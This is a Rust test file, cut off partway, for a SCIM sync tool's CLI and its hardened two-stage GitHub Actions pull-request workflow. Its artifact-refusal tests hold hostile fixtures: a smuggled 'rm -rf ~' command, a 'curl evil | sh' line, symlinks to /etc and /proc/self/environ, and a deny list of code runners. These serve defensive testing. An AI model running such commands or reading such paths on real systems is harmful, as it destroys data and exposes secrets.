//! The operator's conventions: completions and the manual page, `SCIMSYNC_CONFIG`, the
//! bounded markdown plan for pull requests, and the shipped pull-request workflow
//! (`deploy/ci/github-plan-comment.yml`), parsed and held to its promises.

use std::path::{Path, PathBuf};
use std::process::Output;

use scimsync::emulator::{EmulatorConfig, Store};
use scimsync::scim::Version;
use serde_yaml::Value;

use crate::harness::{org_with, output as run};

/// The subcommands every generated document must name.
const SUBCOMMANDS: [&str; 10] = [
    "validate",
    "schema",
    "plan",
    "apply",
    "run",
    "healthcheck",
    "dump",
    "emulator",
    "completions",
    "man",
];

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

#[test]
fn operator_completions_name_every_subcommand_and_bash_parses_its_script() {
    let dir = tempfile::tempdir().unwrap();
    for shell in ["bash", "zsh", "fish"] {
        let out = run(dir.path(), &["completions", shell], &[]);
        assert_eq!(out.status.code(), Some(0), "{shell}");
        let script = stdout(&out);
        for sub in SUBCOMMANDS {
            assert!(script.contains(sub), "{shell} completion lacks {sub}");
        }
        // Options too (fish writes them without the dashes).
        assert!(
            script.contains("max-bytes") && script.contains("color"),
            "{shell}"
        );
    }
    let bash = dir.path().join("scimsync.bash");
    std::fs::write(&bash, run(dir.path(), &["completions", "bash"], &[]).stdout).unwrap();
    let check = std::process::Command::new("bash")
        .arg("-n")
        .arg(&bash)
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "bash -n: {}",
        String::from_utf8_lossy(&check.stderr)
    );
    let bad = run(dir.path(), &["completions", "tcsh"], &[]);
    assert_eq!(bad.status.code(), Some(64));
}

#[test]
fn operator_man_page_has_every_subcommand_the_environment_and_the_exit_codes() {
    let dir = tempfile::tempdir().unwrap();
    let out = run(dir.path(), &["man"], &[]);
    assert_eq!(out.status.code(), Some(0));
    let page = stdout(&out);
    assert!(page.contains(".TH scimsync 1"), "{page}");
    for sub in SUBCOMMANDS {
        assert!(
            page.contains(&format!(".SH \"SCIMSYNC {}\"", sub.to_uppercase())),
            "no section for {sub}"
        );
    }
    for text in [
        "SCIMSYNC_CONFIG",
        "SCIMSYNC_TARGET_URL",
        "NO_COLOR",
        r"\fB\-\-max\-bytes\fR",
        r"\fB\-\-yes\fR",
    ] {
        assert!(page.contains(text), "{text}");
    }
    // Every code src/exit.rs defines (`pub const NAME: u8 = N;`, whoever adds one), with its
    // meaning on the next line.
    let exit_rs = std::fs::read_to_string(repo().join("src/exit.rs")).unwrap();
    let codes: Vec<(&str, u8)> = exit_rs
        .lines()
        .filter_map(|l| l.strip_prefix("pub const "))
        .filter_map(|l| {
            let (name, value) = l.split_once(": u8 = ")?;
            Some((name, value.trim_end_matches(';').parse().ok()?))
        })
        .collect();
    assert!(codes.len() >= 11, "{codes:?}");
    for (name, code) in codes {
        let entry = format!(".TP\n\\fB{code}\\fR\n");
        let at = page
            .find(&entry)
            .unwrap_or_else(|| panic!("exit {code} ({name}) is not in the manual page"));
        let meaning = page[at + entry.len()..].lines().next().unwrap_or_default();
        assert!(meaning.len() > 10, "exit {code} ({name}): {meaning:?}");
    }
    // man(1) reads it (when man is installed).
    let out = run(dir.path(), &["man", "--out-dir", "share/man/man1"], &[]);
    assert_eq!(out.status.code(), Some(0));
    let written = std::fs::read_to_string(dir.path().join("share/man/man1/scimsync.1")).unwrap();
    assert_eq!(written, page);
}

#[test]
fn operator_scimsync_config_supplies_config_and_the_flag_wins() {
    let root = repo();
    let env = [("SCIMSYNC_CONFIG", "no/such/config.yaml")];
    let out = run(&root, &["validate"], &env);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stdout(&out).starts_with("no/such/config.yaml: error: cannot read the config file"),
        "{}",
        stdout(&out)
    );
    let out = run(
        &root,
        &["validate", "--config", "config/scimsync.yaml"],
        &env,
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    // An empty value is unset: the default path.
    let out = run(&root, &["validate"], &[("SCIMSYNC_CONFIG", "")]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert!(stdout(&out).starts_with("config/scimsync.yaml: valid"));
    // Every command that takes --config takes the variable.
    for args in [&["plan"][..], &["apply", "--dry-run"], &["dump"]] {
        let out = run(&root, args, &env);
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("no/such/config.yaml"), "{args:?}: {err}");
    }
}

// The pull-request workflow, in two stages under deploy/ci: held to its rules by reading it,
// and by running its steps (bash, and node for the comment script) as a runner would.

/// Stage 1: `pull_request`, a pull request's own copy; no secret, collects the data.
const COLLECT: &str = "deploy/ci/github-plan-collect.yml";
/// Stage 2: `workflow_run`, the default branch's copy; the only holder of the secret.
const PLAN: &str = "deploy/ci/github-plan-comment.yml";
/// The secret, as the one step that gets it names it.
const SECRET: &str = "${{ secrets.SLACK_SCIM_TOKEN }}";
/// The pins every scimsync step of stage 2 sets, besides the token's variable.
const PINS: [&str; 4] = [
    "SCIMSYNC_CONFINE",
    "SCIMSYNC_TARGET_URL",
    "SCIMSYNC_TOKEN_ENV",
    "SCIMSYNC_STATE_DIR",
];
/// The expressions of stage 2 that GitHub fills from the run stage 2 follows.
const HEAD_EXPR: &str = "github.event.workflow_run.head_sha";
const PULLS_EXPR: &str = "join(github.event.workflow_run.pull_requests.*.number, ' ')";
/// The pull request and head of the simulated runs.
const HEAD: &str = "0123456789abcdef0123456789abcdef01234567";

fn load(path: &str) -> Value {
    let text = std::fs::read_to_string(repo().join(path)).unwrap_or_else(|e| panic!("{path}: {e}"));
    serde_yaml::from_str(&text).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// Stage 2, the workflow holding the secret.
fn workflow() -> Value {
    load(PLAN)
}

/// Stage 1.
fn collect() -> Value {
    load(COLLECT)
}

/// Every workflow shipped under deploy/ci, with its path.
fn shipped_workflows() -> Vec<(String, Value)> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(repo().join("deploy/ci")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            let rel = path
                .strip_prefix(repo())
                .unwrap()
                .to_string_lossy()
                .into_owned();
            out.push((rel.clone(), load(&rel)));
        }
    }
    assert!(out.len() >= 2, "{} workflows", out.len());
    out
}

/// The events a workflow runs on.
fn triggers(w: &Value) -> Vec<String> {
    match &w["on"] {
        Value::String(s) => vec![s.clone()],
        Value::Sequence(s) => s.iter().map(|v| v.as_str().unwrap().to_string()).collect(),
        Value::Mapping(m) => m.keys().map(|k| k.as_str().unwrap().to_string()).collect(),
        other => panic!("on: {other:?}"),
    }
}

fn jobs(w: &Value) -> Vec<(String, &Value)> {
    w["jobs"]
        .as_mapping()
        .expect("jobs")
        .iter()
        .map(|(k, v)| (k.as_str().unwrap().to_string(), v))
        .collect()
}

fn job_steps<'a>(w: &'a Value, job: &str) -> Vec<&'a Value> {
    w["jobs"][job]["steps"]
        .as_sequence()
        .unwrap_or_else(|| panic!("no job {job} with steps"))
        .iter()
        .collect()
}

fn step_with_id<'a>(w: &'a Value, job: &str, id: &str) -> &'a Value {
    job_steps(w, job)
        .into_iter()
        .find(|s| s["id"].as_str() == Some(id))
        .unwrap_or_else(|| panic!("no step with id {id} in job {job}"))
}

/// The index in `job` of the first step `what` describes.
fn index_of(w: &Value, job: &str, what: &str, found: impl Fn(&Value) -> bool) -> usize {
    job_steps(w, job)
        .into_iter()
        .position(found)
        .unwrap_or_else(|| panic!("job {job} has no step that {what}"))
}

fn uses(step: &Value) -> &str {
    step["uses"].as_str().unwrap_or_default()
}

fn text_of(v: &Value) -> String {
    serde_yaml::to_string(v).unwrap()
}

/// A step's environment, every value as the string the process sees.
fn env_of(step: &Value) -> std::collections::BTreeMap<String, String> {
    let Some(env) = step["env"].as_mapping() else {
        return Default::default();
    };
    env.iter()
        .map(|(k, v)| {
            let value = v
                .as_str()
                .map_or_else(|| text_of(v).trim().to_string(), str::to_string);
            (k.as_str().unwrap().to_string(), value)
        })
        .collect()
}

/// Every string of `v` (keys too), with where it is: `jobs.plan.steps.3.env.NAME`.
fn strings(v: &Value, at: &str, out: &mut Vec<(String, String)>) {
    match v {
        Value::String(s) => out.push((at.to_string(), s.clone())),
        Value::Sequence(items) => {
            for (i, item) in items.iter().enumerate() {
                strings(item, &format!("{at}.{i}"), out);
            }
        }
        Value::Mapping(m) => {
            for (k, item) in m {
                let key = text_of(k).trim().to_string();
                let here = if at.is_empty() {
                    key.clone()
                } else {
                    format!("{at}.{key}")
                };
                out.push((here.clone(), key));
                strings(item, &here, out);
            }
        }
        Value::Tagged(t) => strings(&t.value, at, out),
        _ => {}
    }
}

/// Where `needle` occurs in `w`, ignoring case (GitHub's expressions ignore it).
fn places(w: &Value, needle: &str) -> Vec<String> {
    let mut all = Vec::new();
    strings(w, "", &mut all);
    let needle = needle.to_lowercase();
    all.into_iter()
        .filter(|(_, s)| s.to_lowercase().contains(&needle))
        .map(|(at, _)| at)
        .collect()
}

/// The first line of `script` that runs code a pull request could bring: an interpreter, a
/// build or package tool, a script by path, or one of `extra`.
fn runs_code(script: &str, extra: &[&str]) -> Option<String> {
    const CODE_RUNNERS: [&str; 22] = [
        "npm", "npx", "yarn", "pnpm", "make", "node", "python", "python3", "pip", "sh", "bash",
        "zsh", "source", "eval", "exec", "chmod", "docker", "go", "ruby", "perl", "xargs", "env",
    ];
    script.lines().find_map(|line| {
        let words: Vec<&str> = line
            .split(|c: char| c.is_whitespace() || ";|&(){}`".contains(c))
            .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
            .filter(|w| !w.is_empty())
            .collect();
        let bad = words.first() == Some(&".")
            || words
                .iter()
                .any(|w| CODE_RUNNERS.contains(w) || extra.contains(w) || w.starts_with("./"));
        bad.then(|| line.to_string())
    })
}

/// Where stage 2 unpacks stage 1's artifact (as written, with its expression).
fn download_path(w: &Value) -> String {
    let i = index_of(w, "plan", "downloads stage 1's artifact", |s| {
        uses(s).starts_with("actions/download-artifact")
    });
    job_steps(w, "plan")[i]["with"]["path"]
        .as_str()
        .expect("a download path")
        .to_string()
}

/// The binary stage 2 installs: where its download step's `install -m 0755` puts it.
fn installed_binary(w: &Value) -> String {
    let i = index_of(w, "plan", "installs scimsync", is_install);
    let script = job_steps(w, "plan")[i]["run"].as_str().unwrap();
    let line = script
        .lines()
        .map(str::trim)
        .find(|l| l.starts_with("install -m 0755 "))
        .expect("an `install -m 0755 FROM TO` line");
    let root = line.split_whitespace().last().unwrap();
    assert!(
        !root.contains("${{") && !root.contains("workspace") && !root.contains("temp"),
        "scimsync is installed in {root}, where the pull request's files go"
    );
    root.to_string()
}

/// The step that downloads, verifies and installs the release.
fn is_install(s: &Value) -> bool {
    s["run"]
        .as_str()
        .is_some_and(|r| r.contains("cosign verify-blob"))
}

/// The one step the secret reaches: the secret must be named exactly once, in a step's env.
fn secret_step(w: &Value) -> (usize, &Value) {
    let at = places(w, "secrets");
    assert_eq!(
        at.len(),
        1,
        "the secret is named once, in one step's env: {at:?}"
    );
    let parts: Vec<&str> = at[0].split('.').collect();
    assert!(
        matches!(parts.as_slice(), ["jobs", "plan", "steps", _, "env", _]),
        "the secret is at {}",
        at[0]
    );
    let i: usize = parts[3].parse().unwrap();
    (i, job_steps(w, "plan")[i])
}

/// Checks that `step` runs nothing but `bin subcommand …` (one line, its output into files,
/// the config inside the confined folder) and the lines that keep its exit code; returns
/// that line.
fn assert_runs_only(step: &Value, bin: &str, subcommand: &str) -> String {
    let script = step["run"].as_str().expect("a run step");
    let bookkeeping = [
        "set +e",
        "code=$?",
        r#"echo "exit=$code" >> "$GITHUB_OUTPUT""#,
        "exit 0",
    ];
    let mut command = None;
    for line in script.lines().map(str::trim).filter(|l| !l.is_empty()) {
        if bookkeeping.contains(&line) {
            continue;
        }
        let rest = line
            .strip_prefix(&format!("{bin} {subcommand} "))
            .unwrap_or_else(|| panic!("the {subcommand} step runs {line:?}"));
        for s in ["&&", "||", ";", "|", "`", "$(", "<", "\\"] {
            assert!(!rest.contains(s), "{subcommand}: {s:?} in {line:?}");
        }
        assert!(
            rest.starts_with(r#"--config "$SCIMSYNC_CONFINE/scimsync.yaml" "#),
            "{line}"
        );
        // Its output, which quotes the pull request's files, goes to files, not to the log.
        assert!(rest.ends_with(" 2>&1") && rest.contains(" > "), "{line}");
        assert!(
            command.replace(line.to_string()).is_none(),
            "{subcommand} twice"
        );
    }
    for line in bookkeeping {
        assert!(script.contains(line), "{subcommand}: no {line:?}");
    }
    command.unwrap_or_else(|| panic!("no {bin} {subcommand} line"))
}

/// Checks the pins of a scimsync step of stage 2.
fn assert_pinned(step: &Value, data: &str) {
    let env = env_of(step);
    let name = step["name"].as_str().unwrap_or_default();
    for pin in PINS {
        assert!(env.contains_key(pin), "{name}: no {pin}");
    }
    let url = &env["SCIMSYNC_TARGET_URL"];
    assert!(
        url.starts_with("https://") && !url.contains('$'),
        "{name}: the target is a literal https URL, not {url:?}"
    );
    assert_eq!(env["SCIMSYNC_TOKEN_ENV"], "SLACK_SCIM_TOKEN", "{name}");
    // A folder that does not exist, outside the pull request's data: a first run's memory
    // (nothing read, and `plan` writes nothing), so a state committed in the pull request has
    // no effect while a config with a grace period still plans.
    let state = &env["SCIMSYNC_STATE_DIR"];
    assert!(
        state.starts_with("${{ runner.temp }}/") && !state.contains("scimsync-pr"),
        "{name}: no state file of the pull request is read: {state:?}"
    );
    assert_eq!(
        env["SCIMSYNC_CONFINE"],
        format!("{data}/data"),
        "{name}: the config is confined to the artifact's data"
    );
    let workdir = step["working-directory"]
        .as_str()
        .expect("a working-directory");
    assert!(
        !workdir.starts_with(data),
        "{name}: runs in the artifact's folder {workdir}"
    );
}

/// A step of `job` whose `run` script is given, by the text of its line.
fn run_step_containing<'a>(w: &'a Value, job: &str, text: &str) -> &'a Value {
    let i = index_of(w, job, text, |s| {
        s["run"].as_str().is_some_and(|r| r.contains(text))
    });
    job_steps(w, job)[i]
}

#[test]
fn operator_workflow_secret_stage_runs_only_on_workflow_run_of_the_collect_stage() {
    for (file, w) in shipped_workflows() {
        let on = triggers(&w);
        assert!(
            !on.iter().any(|t| t == "pull_request_target"),
            "{file}: pull_request_target runs with secrets beside a pull request's files"
        );
        if !places(&w, "secrets").is_empty() {
            assert_eq!(
                on,
                ["workflow_run"],
                "{file} names a secret and runs on {on:?}: only workflow_run runs the default \
                 branch's copy whatever the pull request changes"
            );
        }
        assert_eq!(
            w["permissions"],
            Value::Mapping(serde_yaml::Mapping::new()),
            "{file}: workflow-wide permissions"
        );
        for (job, j) in jobs(&w) {
            assert!(
                j.get("uses").is_none(),
                "{file}: {job} calls another workflow"
            );
        }
    }
    let w = workflow();
    let c = collect();
    assert_eq!(triggers(&c), ["pull_request"]);
    assert_eq!(triggers(&w), ["workflow_run"]);
    let follows = &w["on"]["workflow_run"];
    assert_eq!(
        follows["types"],
        serde_yaml::from_str::<Value>("[completed]").unwrap()
    );
    assert_eq!(
        follows["workflows"],
        Value::Sequence(vec![c["name"].clone()]),
        "stage 2 follows stage 1 and nothing else"
    );
    // Only a run of stage 1 that succeeded, on a pull request from this repository (a plan
    // shows the organisation's people: not to a fork).
    let condition = w["jobs"]["plan"]["if"].as_str().expect("the plan job's if");
    for part in [
        "github.event.workflow_run.event == 'pull_request'",
        "github.event.workflow_run.conclusion == 'success'",
        "github.event.workflow_run.head_repository.full_name == github.repository",
    ] {
        assert!(condition.contains(part), "{part}: {condition}");
    }
    assert!(!condition.contains("||"), "{condition}");
    // Nothing is checked out beside the token: no branch's code, not the pull request's head.
    let checkouts = places(&w, "actions/checkout");
    assert!(checkouts.is_empty(), "{checkouts:?}");
}

#[test]
fn operator_workflow_pull_request_stage_holds_nothing_and_runs_nothing() {
    let mut pull_request_workflows = 0;
    for (file, w) in shipped_workflows() {
        if !triggers(&w).iter().any(|t| t.starts_with("pull_request")) {
            continue;
        }
        pull_request_workflows += 1;
        // A pull request can rewrite this file: it must hold nothing worth taking.
        for needle in ["secrets", "github.token", "GITHUB_TOKEN"] {
            let at = places(&w, needle);
            assert!(at.is_empty(), "{file}: {needle} at {at:?}");
        }
        for (job, j) in jobs(&w) {
            let p = &j["permissions"];
            assert!(
                p.is_null()
                    || p.as_mapping().unwrap().iter().all(|(k, v)| {
                        k.as_str() == Some("contents") && v.as_str() == Some("read")
                    }),
                "{file}: {job} may do more than read the repository: {p:?}"
            );
            for step in job_steps(&w, &job) {
                if uses(step).starts_with("actions/checkout") {
                    assert_eq!(
                        step["with"]["persist-credentials"],
                        Value::Bool(false),
                        "{file}: {job}: the checkout keeps GitHub's token in .git/config"
                    );
                }
                assert!(
                    !uses(step).starts_with("./"),
                    "{file}: {job}: a local action"
                );
                if let Some(script) = step["run"].as_str() {
                    let ran = runs_code(script, &["scimsync", "cargo"]);
                    assert_eq!(ran, None, "{file}: {job} runs code");
                }
            }
        }
    }
    assert_eq!(pull_request_workflows, 1, "one stage runs on pull requests");
    // It hands stage 2 one artifact, which stage 2 downloads from that run.
    let c = collect();
    let w = workflow();
    let upload = job_steps(&c, "collect")
        .into_iter()
        .find(|s| uses(s).starts_with("actions/upload-artifact"))
        .expect("stage 1 uploads the data");
    let i = index_of(&w, "plan", "downloads", |s| {
        uses(s).starts_with("actions/download-artifact")
    });
    let download = &job_steps(&w, "plan")[i]["with"];
    assert_eq!(download["name"], upload["with"]["name"]);
    assert_eq!(download["run-id"], "${{ github.event.workflow_run.id }}");
    assert_eq!(download["github-token"], "${{ github.token }}");
}

#[test]
fn operator_workflow_secret_reaches_one_step_that_runs_only_the_installed_binary() {
    let w = workflow();
    let (at, step) = secret_step(&w);
    let env = env_of(step);
    let var = &env["SCIMSYNC_TOKEN_ENV"];
    assert_eq!(env.get(var).map(String::as_str), Some(SECRET), "{env:?}");
    let mut expected: Vec<&str> = PINS.to_vec();
    expected.push(var);
    expected.sort_unstable();
    assert_eq!(env.keys().map(String::as_str).collect::<Vec<_>>(), expected);
    for key in ["uses", "with", "shell"] {
        assert!(
            step.get(key).is_none(),
            "the step with the secret has {key}"
        );
    }
    let data = download_path(&w);
    assert!(
        data.starts_with("${{ runner.temp }}/") && data.matches("${{").count() == 1,
        "the artifact goes to a folder of its own under the runner's temp, not {data}"
    );
    assert_pinned(step, &data);
    let bin = installed_binary(&w);
    assert!(!bin.starts_with(&data));
    let line = assert_runs_only(step, &bin, "plan");
    assert!(line.contains("> plan.log 2>&1"), "{line}");
    assert_eq!(
        step["if"].as_str(),
        Some("steps.validate.outputs.exit == '0'")
    );
    // The config is validated first, with the same pins and no token.
    let validate = step_with_id(&w, "plan", "validate");
    assert_pinned(validate, &data);
    assert_eq!(env_of(validate).len(), PINS.len(), "validate gets no token");
    assert_runs_only(validate, &bin, "validate");
    // The binary is in place before any file of the pull request is on the runner, and the
    // data is checked before it is used.
    let find = |id: &str| index_of(&w, "plan", id, |s| s["id"].as_str() == Some(id));
    let order = [
        index_of(&w, "plan", "restores the cache", |s| {
            uses(s).starts_with("actions/cache/restore@")
        }),
        index_of(&w, "plan", "installs", is_install),
        index_of(&w, "plan", "saves the cache", |s| {
            uses(s).starts_with("actions/cache/save@")
        }),
        index_of(&w, "plan", "downloads", |s| {
            uses(s).starts_with("actions/download-artifact")
        }),
        find("check"),
        find("validate"),
        at,
    ];
    assert!(order.is_sorted(), "steps in order: {order:?}");
    // The job holding the secret can only read Actions' artifacts.
    let permissions = &w["jobs"]["plan"]["permissions"];
    assert_eq!(
        permissions,
        &serde_yaml::from_str::<Value>("{actions: read}").unwrap()
    );
}

#[test]
fn operator_workflow_never_runs_the_pull_requests_data() {
    let w = workflow();
    let data = download_path(&w);
    for (job, _) in jobs(&w) {
        for step in job_steps(&w, &job) {
            let name = step["name"].as_str().unwrap_or(uses(step));
            // bash, as written: no `shell:` that could name an interpreter or a file.
            assert!(step.get("shell").is_none(), "{job}: {name}: shell");
            assert!(
                !uses(step).starts_with("./"),
                "{job}: {name}: a local action"
            );
            for script in [&step["run"], &step["with"]["script"]] {
                let Some(script) = script.as_str() else {
                    continue;
                };
                // Values reach scripts through env only: the run's branch name or title (set
                // by the pull request's author) is never spliced into code.
                assert!(
                    !script.contains("${{"),
                    "{job}: {name}: an expression in code"
                );
                assert_eq!(runs_code(script, &[]), None, "{job}: {name}");
            }
            if let Some(dir) = step["working-directory"].as_str() {
                assert!(!dir.starts_with(&data), "{job}: {name} runs in the data");
            }
        }
    }
    // Stage 1's artifact is unpacked in its own folder, once, in the job with the secret, and
    // only after the check of its content and of the pull request's number.
    let downloads = places(&w, "actions/download-artifact");
    assert_eq!(downloads.len(), 2, "{downloads:?}");
    let check = step_with_id(&w, "plan", "check");
    assert_eq!(env_of(check)["PR_DIR"], data);
    assert_eq!(env_of(check)["HEAD_SHA"], format!("${{{{ {HEAD_EXPR} }}}}"));
    assert_eq!(
        env_of(check)["PULL_REQUESTS"],
        format!("${{{{ {PULLS_EXPR} }}}}")
    );
}

/// A stand-in for a GitHub-hosted runner, enough for these workflows' `run` steps: bash with
/// `-e`, the step's env with its `${{ … }}` expressions replaced from a table (an expression
/// not in it fails the test, so that none goes unseen; a step that did not run gives ""),
/// `~/.scimsync/bin/scimsync` the binary under test, and each step's outputs and outcome
/// added to the table.
struct Runner {
    dir: tempfile::TempDir,
    exprs: std::collections::HashMap<String, String>,
}

/// What a step did.
struct StepRun {
    code: i32,
    outputs: std::collections::HashMap<String, String>,
    log: String,
}

impl Runner {
    fn new(exprs: &[(&str, &str)]) -> Runner {
        let dir = tempfile::tempdir().unwrap();
        for sub in ["temp", "home/.scimsync/bin", "workspace"] {
            std::fs::create_dir_all(dir.path().join(sub)).unwrap();
        }
        std::os::unix::fs::symlink(
            crate::harness::binary(),
            dir.path().join("home/.scimsync/bin/scimsync"),
        )
        .unwrap();
        let mut r = Runner {
            dir,
            exprs: exprs
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
        };
        let temp = r.temp().to_string_lossy().into_owned();
        r.exprs.insert("runner.temp".into(), temp);
        r
    }

    fn temp(&self) -> PathBuf {
        self.dir.path().join("temp")
    }

    fn workspace(&self) -> PathBuf {
        self.dir.path().join("workspace")
    }

    fn set(&mut self, expr: &str, value: &str) {
        self.exprs.insert(expr.to_string(), value.to_string());
    }

    fn expand(&self, text: &str) -> String {
        let mut out = String::new();
        let mut rest = text;
        while let Some(start) = rest.find("${{") {
            out.push_str(&rest[..start]);
            let end = start + rest[start..].find("}}").expect("an unclosed expression");
            let expr = rest[start + 3..end].trim();
            let value = self.exprs.get(expr).cloned().unwrap_or_else(|| {
                assert!(
                    expr.starts_with("steps."),
                    "an expression the test does not know: {expr}"
                );
                String::new()
            });
            out.push_str(&value);
            rest = &rest[end + 2..];
        }
        out + rest
    }

    fn expand_path(&self, text: &str) -> PathBuf {
        PathBuf::from(self.expand(text))
    }

    /// Runs `step` (its `run` script), `overrides` set over its env.
    fn run(&mut self, step: &Value, overrides: &[(&str, &str)]) -> StepRun {
        let script = step["run"].as_str().expect("a run step");
        let output = self.dir.path().join("github-output");
        std::fs::write(&output, "").unwrap();
        let file = self.dir.path().join("step.sh");
        std::fs::write(&file, script).unwrap();
        let cwd = step["working-directory"]
            .as_str()
            .map_or_else(|| self.workspace(), |d| self.expand_path(d));
        let mut c = crate::harness::wrapper("bash");
        c.arg("-e")
            .arg(&file)
            .current_dir(&cwd)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap())
            .env("HOME", self.dir.path().join("home"))
            .env("RUNNER_TEMP", self.temp())
            .env("GITHUB_WORKSPACE", self.workspace())
            .env("GITHUB_OUTPUT", &output);
        for (k, v) in env_of(step) {
            c.env(k, self.expand(&v));
        }
        for (k, v) in overrides {
            c.env(k, v);
        }
        let out = c.output().unwrap();
        let outputs: std::collections::HashMap<String, String> = std::fs::read_to_string(&output)
            .unwrap()
            .lines()
            .filter_map(|l| l.split_once('='))
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        if let Some(id) = step["id"].as_str() {
            for (k, v) in &outputs {
                self.set(&format!("steps.{id}.outputs.{k}"), v);
            }
            let outcome = if out.status.success() {
                "success"
            } else {
                "failure"
            };
            self.set(&format!("steps.{id}.outcome"), outcome);
        }
        StepRun {
            code: out.status.code().unwrap_or(-1),
            outputs,
            log: format!("{}{}", stdout(&out), String::from_utf8_lossy(&out.stderr)),
        }
    }

    /// Sets `needs.JOB.outputs.*` from the job's `outputs:`, as GitHub does when it ends.
    fn end_job(&mut self, w: &Value, job: &str) {
        for (k, v) in w["jobs"][job]["outputs"].as_mapping().expect("job outputs") {
            let value = self.expand(v.as_str().unwrap());
            self.set(
                &format!("needs.{job}.outputs.{}", k.as_str().unwrap()),
                &value,
            );
        }
    }
}

/// Copies a folder of files and folders (an artifact's upload, then download).
fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let kind = entry.file_type().unwrap();
        let target = to.join(entry.file_name());
        if kind.is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            assert!(kind.is_file(), "{}", entry.path().display());
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}

/// A well-formed artifact of stage 1 for pull request 7 at `HEAD`.
fn good_artifact(at: &Path) {
    std::fs::create_dir_all(at.join("data/directory")).unwrap();
    std::fs::write(at.join("pr-number"), "7\n").unwrap();
    std::fs::write(at.join("head-sha"), format!("{HEAD}\n")).unwrap();
    std::fs::write(at.join("data/scimsync.yaml"), "sources: []\n").unwrap();
    std::fs::write(at.join("data/directory/people.yaml"), "users: []\n").unwrap();
}

/// Stage 2's check step over the artifact `good_artifact` makes and `spoil` then changes,
/// for a run GitHub says belongs to the pull requests `pulls`.
fn check_artifact(pulls: &str, spoil: impl FnOnce(&Path)) -> StepRun {
    let w = workflow();
    let mut r = Runner::new(&[(HEAD_EXPR, HEAD), (PULLS_EXPR, pulls)]);
    let at = r.expand_path(&download_path(&w));
    good_artifact(&at);
    spoil(&at);
    r.run(step_with_id(&w, "plan", "check"), &[])
}

/// A change that spoils a good artifact.
type Spoil = Box<dyn FnOnce(&Path)>;

/// Artifacts stage 2 must refuse: what is wrong, the pull requests GitHub names for the run,
/// and how the artifact is spoiled.
fn spoiled_artifacts() -> Vec<(&'static str, &'static str, Spoil)> {
    let write = |name: &'static str, text: &'static str| {
        move |at: &Path| std::fs::write(at.join(name), text).unwrap()
    };
    let link = |target: &'static str, name: &'static str| {
        move |at: &Path| {
            let path = at.join(name);
            let _ = std::fs::remove_file(&path);
            let _ = std::fs::remove_dir_all(&path);
            std::os::unix::fs::symlink(target, path).unwrap();
        }
    };
    vec![
        (
            "a command for a number",
            "3 7",
            Box::new(write("pr-number", "7; rm -rf ~\n")),
        ),
        ("letters", "3 7", Box::new(write("pr-number", "seven\n"))),
        ("empty", "3 7", Box::new(write("pr-number", ""))),
        (
            "a leading zero",
            "3 7",
            Box::new(write("pr-number", "07\n")),
        ),
        ("two lines", "3 7", Box::new(write("pr-number", "7\n3\n"))),
        ("two numbers", "3 7", Box::new(write("pr-number", "3 7\n"))),
        (
            "an expression",
            "3 7",
            Box::new(write("pr-number", "${{ secrets.X }}")),
        ),
        ("another pull request", "3 8", Box::new(|_: &Path| {})),
        ("no pull request known", "", Box::new(|_: &Path| {})),
        (
            "another head",
            "7",
            Box::new(write(
                "head-sha",
                "fedcba9876543210fedcba9876543210fedcba98\n",
            )),
        ),
        (
            "a link to a file",
            "7",
            Box::new(link("/etc/hostname", "data/directory/people.yaml")),
        ),
        (
            "a link to a folder",
            "7",
            Box::new(link("/etc", "data/directory")),
        ),
        (
            "a linked config",
            "7",
            Box::new(link("/proc/self/environ", "data/scimsync.yaml")),
        ),
        (
            "a script beside the data",
            "7",
            Box::new(write("run.sh", "curl evil | sh\n")),
        ),
        ("a hidden file", "7", Box::new(write(".env", "X=1\n"))),
        (
            "no config",
            "7",
            Box::new(|at: &Path| std::fs::remove_file(at.join("data/scimsync.yaml")).unwrap()),
        ),
        (
            "a pipe",
            "7",
            Box::new(|at: &Path| {
                let made = std::process::Command::new("mkfifo")
                    .arg(at.join("data/directory/fifo"))
                    .status()
                    .unwrap();
                assert!(made.success());
            }),
        ),
    ]
}

#[test]
fn operator_workflow_refuses_an_artifact_that_is_not_plain_data_for_its_own_pull_request() {
    let w = workflow();
    let ok = check_artifact("3 7", |_| {});
    assert_eq!(ok.code, 0, "{}", ok.log);
    assert_eq!(ok.outputs.get("pr").map(String::as_str), Some("7"));
    let out = Runner::new(&[]).expand(env_of(step_with_id(&w, "plan", "check"))["OUT"].as_str());
    assert!(out.ends_with("scimsync-plan"), "{out}");
    for (what, pulls, spoil) in spoiled_artifacts() {
        let run = check_artifact(pulls, spoil);
        assert_ne!(run.code, 0, "{what}: accepted: {}", run.log);
        assert!(run.outputs.is_empty(), "{what}: {:?}", run.outputs);
        assert!(
            run.log
                .contains("::error::the artifact of stage 1 is refused: "),
            "{what}: {}",
            run.log
        );
        for echoed in ["rm -rf", "seven", "secrets", "curl", "fedcba"] {
            assert!(
                !run.log.contains(echoed),
                "{what}: the log repeats {echoed}: {}",
                run.log
            );
        }
    }
}

#[test]
fn operator_workflow_verdict_passes_in_sync_and_changes_and_fails_everything_else() {
    let w = workflow();
    let verdict = step_with_id(&w, "plan", "verdict");
    assert_eq!(
        verdict["if"].as_str(),
        Some("always()"),
        "a verdict even after a failed step"
    );
    let cases = [
        ("success", "0", "0", true),
        ("success", "0", "2", true),
        ("success", "0", "1", false),
        ("success", "0", "3", false),
        ("success", "0", "4", false),
        ("success", "0", "5", false),
        ("success", "0", "64", false),
